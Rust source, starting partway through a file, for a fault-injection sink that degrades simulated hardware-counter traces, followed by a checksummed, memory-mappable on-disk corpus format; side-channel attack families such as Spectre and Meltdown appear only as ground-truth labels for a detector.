/// [`FaultPlan::sink_for`], each with its own name-keyed xorshift stream.
#[derive(Debug, Clone)]
pub struct FaultPlan {
    spec: FaultSpec,
    /// Schema columns grouped by owning pipeline component, resolved once.
    components: Arc<Vec<ComponentColumns>>,
}

/// One component's slice of the schema.
#[derive(Debug, Clone)]
struct ComponentColumns {
    label: String,
    columns: Vec<usize>,
}

impl FaultPlan {
    /// Builds a plan over `schema`, partitioning its columns by pipeline
    /// component (the dropout granularity).
    pub fn new(spec: FaultSpec, schema: &Schema) -> Self {
        let mut components: Vec<ComponentColumns> = Vec::new();
        for (i, name) in schema.names().iter().enumerate() {
            let label = component_of(name);
            match components.iter_mut().find(|c| c.label == label) {
                Some(c) => c.columns.push(i),
                None => components.push(ComponentColumns {
                    label: label.to_string(),
                    columns: vec![i],
                }),
            }
        }
        Self {
            spec,
            components: Arc::new(components),
        }
    }

    /// The spec this plan injects.
    pub fn spec(&self) -> &FaultSpec {
        &self.spec
    }

    /// The component labels the plan can drop, in schema order.
    pub fn component_labels(&self) -> Vec<&str> {
        self.components.iter().map(|c| c.label.as_str()).collect()
    }

    /// Wraps `inner` in a fault-injecting adapter for the named workload.
    /// The fault stream is keyed by `(plan seed, workload name)` only, so
    /// it is identical regardless of thread count or collection order.
    pub fn sink_for<S: SampleSink>(&self, workload: &str, inner: S) -> FaultySink<S> {
        FaultySink {
            spec: self.spec,
            components: Arc::clone(&self.components),
            rng: XorShift64::new(mix(self.spec.seed ^ fnv1a(workload))),
            inner,
            buf: Vec::new(),
            interval: 0,
            log: FaultLog::default(),
        }
    }

    /// Replays an already-collected corpus through this plan's
    /// [`FaultySink`]s, producing the faulted corpus *without* re-running
    /// the simulator: every trace's rows pass through `sink_for(name, …)`
    /// exactly as they would have during collection.
    ///
    /// Because fault streams are keyed by `(plan seed, trace name)` only,
    /// the result is byte-identical to
    /// [`CorpusSpec::try_collect_faulted`](crate::trace::CorpusSpec::try_collect_faulted)
    /// on the same clean rows — this is the cheap path for replaying
    /// faulted corpora at fleet scale (the `perspectrond --fault-plan`
    /// story), where the clean corpus already sits on disk.
    pub fn fault_corpus(
        &self,
        corpus: &crate::trace::CollectedCorpus,
    ) -> crate::trace::CollectedCorpus {
        let traces = corpus
            .traces
            .iter()
            .map(|t| {
                let schema = t.trace.schema().clone();
                let width = schema.len();
                let mut sink = self.sink_for(&t.name, uarch_stats::SampleTrace::new(schema));
                let flat = t.trace.flat_values();
                for (j, &at) in t.trace.instruction_counts().iter().enumerate() {
                    sink.on_sample(at, &flat[j * width..(j + 1) * width]);
                }
                crate::trace::LabeledTrace {
                    name: t.name.clone(),
                    class: t.class,
                    family: t.family,
                    trace: sink.into_inner(),
                    marks: t.marks.clone(),
                }
            })
            .collect();
        crate::trace::CollectedCorpus {
            traces,
            sample_interval: corpus.sample_interval,
        }
    }
}

/// What one [`FaultySink`] actually injected, for reporting and for
/// checking degradation surfaces against ground truth.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FaultLog {
    /// Sample rows the inner sink never saw.
    pub rows_dropped: usize,
    /// Total component-interval dropout events.
    pub components_dropped: usize,
    /// Total values corrupted to NaN/∞/saturation.
    pub values_corrupted: usize,
    /// Intervals whose reported instruction count was jittered.
    pub intervals_jittered: usize,
    /// Intervals forwarded to the inner sink (dropped rows excluded).
    pub intervals_forwarded: usize,
}

impl FaultLog {
    /// Whether any fault was injected.
    pub fn any(&self) -> bool {
        self.rows_dropped > 0
            || self.components_dropped > 0
            || self.values_corrupted > 0
            || self.intervals_jittered > 0
    }
}

/// A [`SampleSink`] adapter injecting the faults of a [`FaultPlan`] into
/// the row stream before it reaches the wrapped sink.
///
/// Composes with any producer/consumer pair:
/// `Core::run_with_sink(..., &mut plan.sink_for(name, detector))` scores a
/// degraded sensor stream online; wrapping a
/// [`SampleTrace`](uarch_stats::SampleTrace) collects a faulted corpus.
/// With a quiet spec the adapter forwards the borrowed row untouched — no
/// copy, no RNG draw — so disabled faults cannot perturb the golden path.
#[derive(Debug, Clone)]
pub struct FaultySink<S> {
    spec: FaultSpec,
    components: Arc<Vec<ComponentColumns>>,
    rng: XorShift64,
    inner: S,
    buf: Vec<f64>,
    interval: u64,
    log: FaultLog,
}

impl<S> FaultySink<S> {
    /// The wrapped sink.
    pub fn inner(&self) -> &S {
        &self.inner
    }

    /// Consumes the adapter, yielding the wrapped sink.
    pub fn into_inner(self) -> S {
        self.inner
    }

    /// What has been injected so far.
    pub fn log(&self) -> &FaultLog {
        &self.log
    }

    /// Picks a corruption payload: the failure modes a real counter bus
    /// exhibits — NaN, ±∞, or a saturated (all-ones) counter.
    fn corrupt_value(rng: &mut XorShift64) -> f64 {
        match rng.next() % 4 {
            0 => f64::NAN,
            1 => f64::INFINITY,
            2 => f64::NEG_INFINITY,
            _ => u64::MAX as f64, // saturated hardware counter
        }
    }
}

impl<S: SampleSink> SampleSink for FaultySink<S> {
    fn on_sample(&mut self, insts: u64, row: &[f64]) {
        self.interval += 1;
        if self.spec.is_quiet() {
            self.log.intervals_forwarded += 1;
            self.inner.on_sample(insts, row);
            return;
        }
        if self.rng.chance(self.spec.row_drop) {
            self.log.rows_dropped += 1;
            return;
        }
        self.buf.clear();
        self.buf.extend_from_slice(row);
        for c in self.components.iter() {
            if self.rng.chance(self.spec.component_dropout) {
                self.log.components_dropped += 1;
                for &i in &c.columns {
                    self.buf[i] = 0.0;
                }
            }
        }
        if self.spec.corruption > 0.0 {
            for i in 0..self.buf.len() {
                if self.rng.chance(self.spec.corruption) {
                    self.buf[i] = Self::corrupt_value(&mut self.rng);
                    self.log.values_corrupted += 1;
                }
            }
        }
        let mut at = insts;
        if self.spec.interval_jitter > 0 {
            let span = 2 * self.spec.interval_jitter + 1;
            let offset = (self.rng.next() % span) as i64 - self.spec.interval_jitter as i64;
            if offset != 0 {
                self.log.intervals_jittered += 1;
            }
            at = insts.saturating_add_signed(offset);
        }
        self.log.intervals_forwarded += 1;
        self.inner.on_sample(at, &self.buf);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use uarch_stats::SampleTrace;

    fn toy_schema() -> Schema {
        Schema::from_names(vec![
            "fetch.Insts".into(),
            "fetch.Cycles".into(),
            "commit.NonSpecStalls".into(),
            "dcache.ReadReq_misses".into(),
        ])
    }

    fn run_rows(plan: &FaultPlan, name: &str, rows: usize) -> SampleTrace {
        let schema = toy_schema();
        let mut sink = plan.sink_for(name, SampleTrace::new(schema.clone()));
        for j in 0..rows {
            let row: Vec<f64> = (0..schema.len()).map(|i| (j * 10 + i) as f64).collect();
            sink.on_sample((j as u64 + 1) * 10_000, &row);
        }
        sink.into_inner()
    }

    #[test]
    fn quiet_spec_is_a_pure_pass_through() {
        let schema = toy_schema();
        let plan = FaultPlan::new(FaultSpec::none(), &schema);
        let faulted = run_rows(&plan, "w", 8);
        let mut clean = SampleTrace::new(schema.clone());
        for j in 0..8usize {
            let row: Vec<f64> = (0..schema.len()).map(|i| (j * 10 + i) as f64).collect();
            clean.push((j as u64 + 1) * 10_000, &row);
        }
        assert_eq!(faulted.flat_values(), clean.flat_values());
        assert_eq!(faulted.instruction_counts(), clean.instruction_counts());
    }

    #[test]
    fn same_seed_same_workload_is_byte_identical() {
        let schema = toy_schema();
        let spec = FaultSpec {
            seed: 7,
            component_dropout: 0.3,
            row_drop: 0.2,
            corruption: 0.1,
            interval_jitter: 500,
        };
        let plan = FaultPlan::new(spec, &schema);
        let a = run_rows(&plan, "w", 50);
        let b = run_rows(&plan, "w", 50);
        assert_eq!(
            a.flat_values()
                .iter()
                .map(|v| v.to_bits())
                .collect::<Vec<_>>(),
            b.flat_values()
                .iter()
                .map(|v| v.to_bits())
                .collect::<Vec<_>>(),
        );
        assert_eq!(a.instruction_counts(), b.instruction_counts());
    }

    #[test]
    fn different_workloads_get_different_fault_streams() {
        let schema = toy_schema();
        let spec = FaultSpec {
            seed: 7,
            row_drop: 0.5,
            ..FaultSpec::none()
        };
        let plan = FaultPlan::new(spec, &schema);
        let a = run_rows(&plan, "alpha", 64);
        let b = run_rows(&plan, "beta", 64);
        assert_ne!(
            a.instruction_counts(),
            b.instruction_counts(),
            "independent streams should drop different rows"
        );
    }

    #[test]
    fn component_dropout_zeroes_whole_components() {
        let schema = toy_schema();
        let spec = FaultSpec {
            seed: 3,
            component_dropout: 1.0, // every component, every interval
            ..FaultSpec::none()
        };
        let plan = FaultPlan::new(spec, &schema);
        let t = run_rows(&plan, "w", 4);
        assert_eq!(t.len(), 4, "dropout never drops rows");
        assert!(t.flat_values().iter().all(|&v| v == 0.0));
    }

    #[test]
    fn corruption_injects_non_finite_or_saturated_values() {
        let schema = toy_schema();
        let spec = FaultSpec {
            seed: 11,
            corruption: 1.0,
            ..FaultSpec::none()
        };
        let plan = FaultPlan::new(spec, &schema);
        let t = run_rows(&plan, "w", 16);
        let vals: Vec<f64> = t.flat_values().to_vec();
        assert!(vals.iter().any(|v| !v.is_finite()), "NaN/∞ injected");
        assert!(
            vals.contains(&(u64::MAX as f64)),
            "saturated counters injected"
        );
    }

    #[test]
    fn row_drop_shortens_the_trace_and_is_logged() {
        let schema = toy_schema();
        let spec = FaultSpec {
            seed: 5,
            row_drop: 0.5,
            ..FaultSpec::none()
        };
        let plan = FaultPlan::new(spec, &schema);
        let mut sink = plan.sink_for("w", SampleTrace::new(schema.clone()));
        for j in 0..100u64 {
            sink.on_sample((j + 1) * 10_000, &[1.0, 2.0, 3.0, 4.0]);
        }
        let dropped = sink.log().rows_dropped;
        assert!((20..80).contains(&dropped), "≈half dropped, got {dropped}");
        assert_eq!(sink.log().intervals_forwarded, 100 - dropped);
        assert_eq!(sink.inner().len(), 100 - dropped);
    }

    #[test]
    fn jitter_perturbs_instruction_counts_within_bounds() {
        let schema = toy_schema();
        let spec = FaultSpec {
            seed: 13,
            interval_jitter: 400,
            ..FaultSpec::none()
        };
        let plan = FaultPlan::new(spec, &schema);
        let t = run_rows(&plan, "w", 32);
        let mut moved = 0;
        for (j, &at) in t.instruction_counts().iter().enumerate() {
            let nominal = (j as u64 + 1) * 10_000;
            assert!(at.abs_diff(nominal) <= 400, "jitter bound violated: {at}");
            if at != nominal {
                moved += 1;
            }
        }
        assert!(moved > 0, "some intervals should jitter");
    }

    #[test]
    fn fault_corpus_matches_collect_time_injection_byte_for_byte() {
        use crate::trace::CorpusSpec;
        let mut all = workloads::full_suite();
        all.retain(|w| w.name == "flush-reload" || w.name == "hmmer");
        let spec = CorpusSpec {
            insts_per_workload: 30_000,
            sample_interval: 10_000,
            workloads: all,
        };
        let clean = spec.try_collect_serial().expect("clean collection");
        let plan = FaultPlan::new(
            FaultSpec {
                seed: 99,
                component_dropout: 0.2,
                row_drop: 0.1,
                corruption: 0.05,
                interval_jitter: 300,
            },
            clean.schema(),
        );
        let at_collect = spec
            .try_collect_faulted(&plan, 1)
            .expect("collect-time faulted corpus");
        let replayed = plan.fault_corpus(&clean);
        assert_eq!(replayed.traces.len(), at_collect.traces.len());
        for (a, b) in replayed.traces.iter().zip(&at_collect.traces) {
            assert_eq!(a.name, b.name);
            assert_eq!(
                a.trace
                    .flat_values()
                    .iter()
                    .map(|v| v.to_bits())
                    .collect::<Vec<_>>(),
                b.trace
                    .flat_values()
                    .iter()
                    .map(|v| v.to_bits())
                    .collect::<Vec<_>>(),
                "{}: corpus-replay faulting drifted from collect-time faulting",
                a.name
            );
            assert_eq!(a.trace.instruction_counts(), b.trace.instruction_counts());
        }
    }

    #[test]
    fn plan_partitions_schema_by_component() {
        let plan = FaultPlan::new(FaultSpec::none(), &toy_schema());
        let labels = plan.component_labels();
        assert!(labels.contains(&"fetch"));
        assert!(labels.contains(&"commit"));
        assert!(labels.contains(&"dcache"));
        assert_eq!(labels.len(), 3, "fetch columns share one component");
    }
}
