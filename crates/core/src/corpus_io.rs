//! An on-disk columnar corpus format, memory-mappable for replay at scale.
//!
//! The service story (DESIGN §5i) needs million-row corpora streamed into
//! thousands of replay clients without ever holding the corpus resident.
//! This module is the storage half of that: a [`CollectedCorpus`] writes
//! to a single little-endian file — fixed header, schema name table,
//! per-trace directory (label, family, marks), then per-trace **column
//! pages**: the instruction counts as one contiguous `u64` page followed
//! by each statistic column as one contiguous `f64` page. Column-major
//! pages mean a reader touching one counter's time series faults in only
//! that column's bytes, and a blocked row reader walks every page
//! sequentially.
//!
//! Reading goes through [`CorpusReader`], which memory-maps the file
//! read-only via [`MappedFile`] — the kernel
//! pages column data in on demand — and falls back to positioned reads
//! (`pread`-style [`std::os::unix::fs::FileExt::read_at`]) when mapping
//! is unavailable or explicitly disabled. The whole payload is guarded by
//! an FNV-1a checksum; truncation and corruption surface as typed
//! [`CorpusIoError`]s, never as garbage samples.
//!
//! All multi-byte fields are little-endian **by definition** (not host
//! order): the same file parses identically on any architecture, pinned
//! by the golden-header fixture in `crates/core/tests/corpus_io.rs`.

use std::fs::File;
use std::io::{self, Write};
use std::path::Path;

use sim_cpu::MarkEvent;
use uarch_isa::MarkKind;
use uarch_stats::{SampleTrace, Schema};
use workloads::{Class, Family};

use crate::mmap::MappedFile;
use crate::trace::{CollectedCorpus, LabeledTrace};

/// File magic: the first four bytes of every corpus file.
pub const MAGIC: [u8; 4] = *b"PSPC";

/// Current format version.
pub const VERSION: u32 = 1;

/// Fixed header length in bytes (magic, version, counts, interval,
/// payload length, payload checksum, reserved word).
pub const HEADER_LEN: usize = 48;

/// Rows fetched per column read when streaming a trace sequentially —
/// the resident-memory granule of a blocked replay
/// (`block × columns × 8` bytes, ~150 KiB for the 1159-column schema).
pub const DEFAULT_BLOCK_ROWS: usize = 16;

/// Why a corpus file could not be written or read.
#[derive(Debug)]
pub enum CorpusIoError {
    /// An underlying I/O failure (open, read, write, map).
    Io(io::Error),
    /// The file does not start with [`MAGIC`] — not a corpus file.
    BadMagic([u8; 4]),
    /// The file's format version is newer than this reader understands.
    UnsupportedVersion(u32),
    /// The file is shorter than its header claims — a torn or truncated
    /// write.
    Truncated {
        /// Bytes the header promised.
        expected: u64,
        /// Bytes actually present.
        actual: u64,
    },
    /// The payload bytes do not hash to the header's checksum.
    ChecksumMismatch {
        /// Checksum recorded in the header.
        expected: u64,
        /// Checksum of the bytes actually read.
        actual: u64,
    },
    /// Structurally invalid payload (bad string, out-of-range label,
    /// directory overrun) despite a passing checksum.
    Corrupt(String),
}

impl std::fmt::Display for CorpusIoError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CorpusIoError::Io(e) => write!(f, "corpus io: {e}"),
            CorpusIoError::BadMagic(m) => {
                write!(
                    f,
                    "not a corpus file (magic {m:02x?}, expected {MAGIC:02x?})"
                )
            }
            CorpusIoError::UnsupportedVersion(v) => {
                write!(
                    f,
                    "corpus format version {v} is newer than supported {VERSION}"
                )
            }
            CorpusIoError::Truncated { expected, actual } => write!(
                f,
                "corpus file truncated: header promises {expected} bytes, file has {actual}"
            ),
            CorpusIoError::ChecksumMismatch { expected, actual } => write!(
                f,
                "corpus payload checksum mismatch: header {expected:#018x}, computed {actual:#018x}"
            ),
            CorpusIoError::Corrupt(what) => write!(f, "corrupt corpus payload: {what}"),
        }
    }
}

impl std::error::Error for CorpusIoError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            CorpusIoError::Io(e) => Some(e),
            _ => None,
        }
    }
}

impl From<io::Error> for CorpusIoError {
    fn from(e: io::Error) -> Self {
        CorpusIoError::Io(e)
    }
}

/// FNV-1a 64 over a byte slice — the payload checksum (the repo's stock
/// golden-snapshot hash, applied to bytes instead of stats).
fn fnv1a_bytes(bytes: &[u8]) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

fn class_code(c: Class) -> u8 {
    match c {
        Class::Malicious => 0,
        Class::Benign => 1,
    }
}

fn class_from(code: u8) -> Result<Class, CorpusIoError> {
    match code {
        0 => Ok(Class::Malicious),
        1 => Ok(Class::Benign),
        n => Err(CorpusIoError::Corrupt(format!("class code {n}"))),
    }
}

fn family_code(f: Family) -> u8 {
    match f {
        Family::SpectreV1 => 0,
        Family::SpectreV2 => 1,
        Family::SpectreRsb => 2,
        Family::Meltdown => 3,
        Family::BreakingKslr => 4,
        Family::CacheOut => 5,
        Family::FlushFlush => 6,
        Family::FlushReload => 7,
        Family::PrimeProbe => 8,
        Family::Calibration => 9,
        Family::Benign => 10,
    }
}

fn family_from(code: u8) -> Result<Family, CorpusIoError> {
    Ok(match code {
        0 => Family::SpectreV1,
        1 => Family::SpectreV2,
        2 => Family::SpectreRsb,
        3 => Family::Meltdown,
        4 => Family::BreakingKslr,
        5 => Family::CacheOut,
        6 => Family::FlushFlush,
        7 => Family::FlushReload,
        8 => Family::PrimeProbe,
        9 => Family::Calibration,
        10 => Family::Benign,
        n => return Err(CorpusIoError::Corrupt(format!("family code {n}"))),
    })
}

fn mark_code(k: MarkKind) -> u8 {
    match k {
        MarkKind::LeakByte => 0,
        MarkKind::PhasePrime => 1,
        MarkKind::PhaseSpeculate => 2,
        MarkKind::PhaseProbe => 3,
        MarkKind::IterationEnd => 4,
    }
}

fn mark_from(code: u8) -> Result<MarkKind, CorpusIoError> {
    Ok(match code {
        0 => MarkKind::LeakByte,
        1 => MarkKind::PhasePrime,
        2 => MarkKind::PhaseSpeculate,
        3 => MarkKind::PhaseProbe,
        4 => MarkKind::IterationEnd,
        n => return Err(CorpusIoError::Corrupt(format!("mark kind {n}"))),
    })
}

fn put_str(out: &mut Vec<u8>, s: &str) {
    out.extend_from_slice(&(s.len() as u32).to_le_bytes());
    out.extend_from_slice(s.as_bytes());
}

/// Serializes a corpus into the on-disk byte layout (header + payload).
/// Exposed so tests can pin the golden header without touching the
/// filesystem.
pub fn corpus_to_bytes(corpus: &CollectedCorpus) -> Vec<u8> {
    let n_cols = corpus.traces.first().map_or(0, |t| t.trace.schema().len());
    let mut payload = Vec::new();

    // 1. Schema name table.
    if let Some(t) = corpus.traces.first() {
        for name in t.trace.schema().names() {
            put_str(&mut payload, name);
        }
    }

    // 2. Trace directory. Page offsets are absolute file offsets; compute
    // the directory's full size first so the page region lands after it.
    let dir_len: usize = corpus
        .traces
        .iter()
        .map(|t| 4 + t.name.len() + 1 + 1 + 2 + 4 + 4 + 17 * t.marks.len() + 8)
        .sum();
    let unpadded = HEADER_LEN + payload.len() + dir_len;
    let pad = (8 - unpadded % 8) % 8;
    let mut pages_off = (unpadded + pad) as u64;
    for t in &corpus.traces {
        let rows = t.trace.len() as u64;
        put_str(&mut payload, &t.name);
        payload.push(class_code(t.class));
        payload.push(family_code(t.family));
        payload.extend_from_slice(&0u16.to_le_bytes());
        payload.extend_from_slice(&(rows as u32).to_le_bytes());
        payload.extend_from_slice(&(t.marks.len() as u32).to_le_bytes());
        for m in &t.marks {
            payload.push(mark_code(m.kind));
            payload.extend_from_slice(&m.at_inst.to_le_bytes());
            payload.extend_from_slice(&m.at_cycle.to_le_bytes());
        }
        payload.extend_from_slice(&pages_off.to_le_bytes());
        pages_off += 8 * rows + 8 * rows * n_cols as u64;
    }
    payload.extend(std::iter::repeat_n(0u8, pad));

    // 3. Column pages, one trace after another: the u64 instruction-count
    // page, then every statistic column as a contiguous f64 page.
    for t in &corpus.traces {
        for &insts in t.trace.instruction_counts() {
            payload.extend_from_slice(&insts.to_le_bytes());
        }
        let flat = t.trace.flat_values();
        let rows = t.trace.len();
        for c in 0..n_cols {
            for r in 0..rows {
                payload.extend_from_slice(&flat[r * n_cols + c].to_le_bytes());
            }
        }
    }

    let mut out = Vec::with_capacity(HEADER_LEN + payload.len());
    out.extend_from_slice(&MAGIC);
    out.extend_from_slice(&VERSION.to_le_bytes());
    out.extend_from_slice(&(corpus.traces.len() as u32).to_le_bytes());
    out.extend_from_slice(&(n_cols as u32).to_le_bytes());
    out.extend_from_slice(&corpus.sample_interval.to_le_bytes());
    out.extend_from_slice(&(payload.len() as u64).to_le_bytes());
    out.extend_from_slice(&fnv1a_bytes(&payload).to_le_bytes());
    out.extend_from_slice(&0u64.to_le_bytes());
    debug_assert_eq!(out.len(), HEADER_LEN);
    out.extend_from_slice(&payload);
    out
}

/// Writes a corpus to `path` in the columnar on-disk format.
///
/// # Errors
///
/// Returns [`CorpusIoError::Io`] on filesystem failures.
pub fn write_corpus(path: impl AsRef<Path>, corpus: &CollectedCorpus) -> Result<(), CorpusIoError> {
    let bytes = corpus_to_bytes(corpus);
    let mut f = File::create(path)?;
    f.write_all(&bytes)?;
    f.sync_all()?;
    Ok(())
}

/// How the reader fetches bytes: a read-only memory map, or positioned
/// reads against the open file.
#[derive(Debug)]
enum Source {
    Mapped(MappedFile),
    Pread { file: File, len: u64 },
}

impl Source {
    fn len(&self) -> u64 {
        match self {
            Source::Mapped(m) => m.len() as u64,
            Source::Pread { len, .. } => *len,
        }
    }

    /// Copies `buf.len()` bytes starting at `off` into `buf`.
    fn read_into(&self, off: u64, buf: &mut [u8]) -> Result<(), CorpusIoError> {
        let end = off + buf.len() as u64;
        if end > self.len() {
            return Err(CorpusIoError::Truncated {
                expected: end,
                actual: self.len(),
            });
        }
        match self {
            Source::Mapped(m) => {
                buf.copy_from_slice(&m.as_bytes()[off as usize..end as usize]);
                Ok(())
            }
            Source::Pread { file, .. } => {
                read_at_exact(file, off, buf)?;
                Ok(())
            }
        }
    }

    /// Zero-copy view of `[off, off+len)` — available only when mapped.
    fn slice(&self, off: u64, len: usize) -> Option<&[u8]> {
        match self {
            Source::Mapped(m) => m.as_bytes().get(off as usize..off as usize + len),
            Source::Pread { .. } => None,
        }
    }
}

#[cfg(unix)]
fn read_at_exact(file: &File, mut off: u64, mut buf: &mut [u8]) -> io::Result<()> {
    use std::os::unix::fs::FileExt;
    while !buf.is_empty() {
        let n = file.read_at(buf, off)?;
        if n == 0 {
            return Err(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "corpus file shrank mid-read",
            ));
        }
        off += n as u64;
        buf = &mut buf[n..];
    }
    Ok(())
}

#[cfg(not(unix))]
fn read_at_exact(file: &File, off: u64, buf: &mut [u8]) -> io::Result<()> {
    use std::io::{Read, Seek, SeekFrom};
    let mut f = file.try_clone()?;
    f.seek(SeekFrom::Start(off))?;
    f.read_exact(buf)
}

/// One trace's directory entry: everything but the sample values.
#[derive(Debug, Clone)]
pub struct TraceMeta {
    /// Workload (or scenario) name.
    pub name: String,
    /// Ground-truth class.
    pub class: Class,
    /// Attack family (or benign).
    pub family: Family,
    /// Number of sampled rows.
    pub rows: usize,
    /// Simulator marks committed during the run.
    pub marks: Vec<MarkEvent>,
    /// Absolute file offset of this trace's column pages.
    pages_off: u64,
}

/// A little-endian cursor over a byte slice, for directory parsing.
struct Cursor<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Cursor<'a> {
    fn take(&mut self, n: usize) -> Result<&'a [u8], CorpusIoError> {
        let end = self.pos.checked_add(n).filter(|&e| e <= self.bytes.len());
        match end {
            Some(end) => {
                let s = &self.bytes[self.pos..end];
                self.pos = end;
                Ok(s)
            }
            None => Err(CorpusIoError::Corrupt("directory overruns payload".into())),
        }
    }

    fn u8(&mut self) -> Result<u8, CorpusIoError> {
        Ok(self.take(1)?[0])
    }

    fn u16(&mut self) -> Result<u16, CorpusIoError> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().unwrap()))
    }

    fn u32(&mut self) -> Result<u32, CorpusIoError> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().unwrap()))
    }

    fn u64(&mut self) -> Result<u64, CorpusIoError> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().unwrap()))
    }

    fn str(&mut self) -> Result<String, CorpusIoError> {
        let len = self.u32()? as usize;
        let bytes = self.take(len)?;
        String::from_utf8(bytes.to_vec())
            .map_err(|_| CorpusIoError::Corrupt("non-UTF-8 name".into()))
    }
}

/// A validated, random-access view of an on-disk corpus.
///
/// Opening verifies magic, version, length and the payload checksum, then
/// parses the schema and trace directory; sample values stay on disk (or
/// in the page cache) until a row or column is actually read.
#[derive(Debug)]
pub struct CorpusReader {
    source: Source,
    schema: Schema,
    sample_interval: u64,
    traces: Vec<TraceMeta>,
}

impl CorpusReader {
    /// Opens and validates a corpus file, memory-mapping it when possible
    /// and falling back to positioned reads otherwise. Setting the
    /// `PERSPECTRON_NO_MMAP` environment variable forces the fallback
    /// (useful for exercising the `pread` path on hosts where `mmap`
    /// works).
    pub fn open(path: impl AsRef<Path>) -> Result<Self, CorpusIoError> {
        let file = File::open(path)?;
        let len = file.metadata()?.len();
        let source = if std::env::var_os("PERSPECTRON_NO_MMAP").is_some() {
            Source::Pread { file, len }
        } else {
            match MappedFile::map(&file) {
                Ok(map) => Source::Mapped(map),
                Err(_) => Source::Pread { file, len },
            }
        };
        Self::from_source(source)
    }

    /// Opens a corpus file using positioned reads only (no memory map).
    pub fn open_pread(path: impl AsRef<Path>) -> Result<Self, CorpusIoError> {
        let file = File::open(path)?;
        let len = file.metadata()?.len();
        Self::from_source(Source::Pread { file, len })
    }

    fn from_source(source: Source) -> Result<Self, CorpusIoError> {
        let mut header = [0u8; HEADER_LEN];
        if source.len() < HEADER_LEN as u64 {
            return Err(CorpusIoError::Truncated {
                expected: HEADER_LEN as u64,
                actual: source.len(),
            });
        }
        source.read_into(0, &mut header)?;
        if header[0..4] != MAGIC {
            return Err(CorpusIoError::BadMagic(header[0..4].try_into().unwrap()));
        }
        let version = u32::from_le_bytes(header[4..8].try_into().unwrap());
        if version != VERSION {
            return Err(CorpusIoError::UnsupportedVersion(version));
        }
        let n_traces = u32::from_le_bytes(header[8..12].try_into().unwrap()) as usize;
        let n_cols = u32::from_le_bytes(header[12..16].try_into().unwrap()) as usize;
        let sample_interval = u64::from_le_bytes(header[16..24].try_into().unwrap());
        let payload_len = u64::from_le_bytes(header[24..32].try_into().unwrap());
        let checksum = u64::from_le_bytes(header[32..40].try_into().unwrap());

        let expected_len = HEADER_LEN as u64 + payload_len;
        if source.len() != expected_len {
            return Err(CorpusIoError::Truncated {
                expected: expected_len,
                actual: source.len(),
            });
        }

        // One sequential pass over the payload: checksum it, and keep the
        // (small) prefix the directory lives in. Column pages stream
        // through the hash in chunks without staying resident.
        let actual = match source.slice(HEADER_LEN as u64, payload_len as usize) {
            Some(payload) => fnv1a_bytes(payload),
            None => {
                let mut h = 0xcbf2_9ce4_8422_2325u64;
                let mut off = HEADER_LEN as u64;
                let mut remaining = payload_len;
                let mut chunk = vec![0u8; 1 << 20];
                while remaining > 0 {
                    let n = chunk.len().min(remaining as usize);
                    source.read_into(off, &mut chunk[..n])?;
                    for &b in &chunk[..n] {
                        h ^= b as u64;
                        h = h.wrapping_mul(0x100_0000_01b3);
                    }
                    off += n as u64;
                    remaining -= n as u64;
                }
                h
            }
        };
        if actual != checksum {
            return Err(CorpusIoError::ChecksumMismatch {
                expected: checksum,
                actual,
            });
        }

        // Parse the name table and trace directory at the front of the
        // payload — straight off the map when possible (no copy, no
        // residency beyond the directory's own pages); the pread fallback
        // buffers the payload it already streamed for the checksum.
        let (schema, traces) = match source.slice(HEADER_LEN as u64, payload_len as usize) {
            Some(payload) => Self::parse_front(payload, n_traces, n_cols)?,
            None => {
                let mut front = vec![0u8; payload_len as usize];
                source.read_into(HEADER_LEN as u64, &mut front)?;
                Self::parse_front(&front, n_traces, n_cols)?
            }
        };

        // Validate every trace's pages fit inside the file.
        for t in &traces {
            let pages_len = 8 * t.rows as u64 * (1 + n_cols as u64);
            if t.pages_off + pages_len > expected_len {
                return Err(CorpusIoError::Corrupt(format!(
                    "trace {} pages overrun the file",
                    t.name
                )));
            }
        }

        Ok(Self {
            source,
            schema,
            sample_interval,
            traces,
        })
    }

    fn parse_front(
        payload: &[u8],
        n_traces: usize,
        n_cols: usize,
    ) -> Result<(Schema, Vec<TraceMeta>), CorpusIoError> {
        let mut cur = Cursor {
            bytes: payload,
            pos: 0,
        };
        let mut names = Vec::with_capacity(n_cols);
        for _ in 0..n_cols {
            names.push(cur.str()?);
        }
        let schema = Schema::from_names(names);
        let mut traces = Vec::with_capacity(n_traces);
        for _ in 0..n_traces {
            let name = cur.str()?;
            let class = class_from(cur.u8()?)?;
            let family = family_from(cur.u8()?)?;
            let pad = cur.u16()?;
            if pad != 0 {
                return Err(CorpusIoError::Corrupt("nonzero directory padding".into()));
            }
            let rows = cur.u32()? as usize;
            let n_marks = cur.u32()? as usize;
            let mut marks = Vec::with_capacity(n_marks.min(1 << 20));
            for _ in 0..n_marks {
                let kind = mark_from(cur.u8()?)?;
                let at_inst = cur.u64()?;
                let at_cycle = cur.u64()?;
                marks.push(MarkEvent {
                    kind,
                    at_inst,
                    at_cycle,
                });
            }
            let pages_off = cur.u64()?;
            traces.push(TraceMeta {
                name,
                class,
                family,
                rows,
                marks,
                pages_off,
            });
        }
        Ok((schema, traces))
    }

    /// The statistic schema (column names, in page order).
    pub fn schema(&self) -> &Schema {
        &self.schema
    }

    /// The sampling interval the corpus was collected at.
    pub fn sample_interval(&self) -> u64 {
        self.sample_interval
    }

    /// Number of traces in the file.
    pub fn n_traces(&self) -> usize {
        self.traces.len()
    }

    /// Directory entry of trace `t`.
    ///
    /// # Panics
    ///
    /// Panics if `t` is out of range.
    pub fn trace_meta(&self, t: usize) -> &TraceMeta {
        &self.traces[t]
    }

    /// Whether this reader serves bytes from a memory map (as opposed to
    /// the positioned-read fallback).
    pub fn is_mapped(&self) -> bool {
        matches!(self.source, Source::Mapped(_))
    }

    fn insts_off(&self, t: usize) -> u64 {
        self.traces[t].pages_off
    }

    fn col_off(&self, t: usize, col: usize) -> u64 {
        let rows = self.traces[t].rows as u64;
